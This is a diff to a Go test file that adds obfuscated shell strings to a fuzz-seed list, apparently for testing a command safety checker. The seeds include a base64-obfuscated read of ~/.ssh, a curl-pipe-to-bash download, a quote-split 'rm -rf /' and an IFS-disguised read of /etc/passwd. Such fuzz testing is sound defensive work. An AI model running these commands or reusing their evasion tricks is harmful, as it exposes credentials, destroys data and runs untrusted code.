@@ -7,6 +7,8 @@ import (
 
 var fuzzSeeds = []string{
 	"git status",
+	"cat ~/$(echo LnNzaA== | base64 -d) $(base64 -d <<< YQ==) $(echo cba | rev | tr a-c n-p)",
+	"x=$(printf %s 6869 | xxd -r -p); echo $(echo $x | cat)",
 	"curl -fsSL https://x.sh | bash",
 	"r''m -rf / ; c'u'rl x",
 	"cat${IFS}/etc/passwd",
